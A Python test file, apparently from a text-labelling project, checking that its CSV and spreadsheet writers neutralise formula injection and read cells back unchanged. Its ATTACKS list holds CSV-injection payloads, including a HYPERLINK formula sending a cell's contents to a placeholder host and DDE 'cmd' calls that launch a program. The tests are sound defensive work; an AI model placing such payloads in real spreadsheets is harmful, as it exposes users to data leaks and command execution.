"""No cell of a table that we write is a formula to a spreadsheet, and what is read again is what was written."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from allabel.document import DocId, Document, Span
from allabel.formats.csv_table import Csv
from allabel.formats.entity_table import entity_table
from allabel.formats.spreadsheet import guarded, unguarded
from allabel.reply import Grounding, Proposal, Reply, Status, TaggedDocument
from eval.report.flat import Cell, write_csv

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",
)
texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1)
cells = st.one_of(texts, st.builds(lambda a, b: a + b, st.sampled_from([*STARTS, "'", "'=", "''@"]), texts))


def _written(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def _runs(cell: str) -> bool:
    return cell.startswith(STARTS)


@given(cells)
def test_a_guarded_cell_is_no_formula_and_gives_the_same_cell_back(cell: str) -> None:
    assert not _runs(guarded(cell))
    assert unguarded(guarded(cell)) == cell


@given(st.lists(cells, min_size=1, max_size=4, unique=True), st.lists(cells, min_size=4, max_size=4))
def test_a_table_of_documents_holds_no_formula_and_is_read_as_it_was(tmp_path_factory, ids, bodies) -> None:
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    documents = [Document(DocId(id), text, (Span(0, 1, "A"),)) for id, text in zip(ids, bodies, strict=False)]
    Csv().write(documents, path)
    assert not [cell for row in _written(path) for cell in row if _runs(cell)]
    back = [record.document for record in Csv().read(path)]
    assert [(d.id, d.text, d.entities) for d in back] == [(d.id, d.text, d.entities) for d in documents]


def test_a_table_of_others_keeps_its_apostrophes(tmp_path: Path) -> None:
    path = tmp_path / "theirs.csv"
    path.write_text("id,text\na,'-CH3 group\nb,=x\n", encoding="utf-8")
    assert [record.document.text for record in Csv().read(path)] == ["'-CH3 group", "=x"]


def test_a_table_of_entities_holds_no_formula() -> None:
    tagged = [
        TaggedDocument(
            DocId(attack),
            attack,
            Reply(Status.OK, (Proposal("=L", attack, Span(0, len(attack), "=L"), Grounding.EXACT, 0.5),)),
            "b",
            "m",
        )
        for attack in ATTACKS
    ]
    out = io.StringIO(newline="")
    entity_table((), tagged).write_to(out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1 + len(ATTACKS)
    assert not [cell for row in rows for cell in row if _runs(cell)]


def test_the_numbers_of_a_report_hold_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cell = Cell("=data", 0, "+s", "@b", "-arm", "f1", "=1+1", -0.5)
    monkeypatch.setattr("eval.report.flat.rows", lambda measured: iter([cell]))
    write_csv([], tmp_path / "cells.csv")
    _, row = _written(tmp_path / "cells.csv")
    assert row == ["'=data", "0", "'+s", "'@b", "'-arm", "f1", "'=1+1", "-0.5"]


def test_times_are_no_formulas() -> None:
    assert guarded(datetime.now(UTC).isoformat())[0].isdigit()
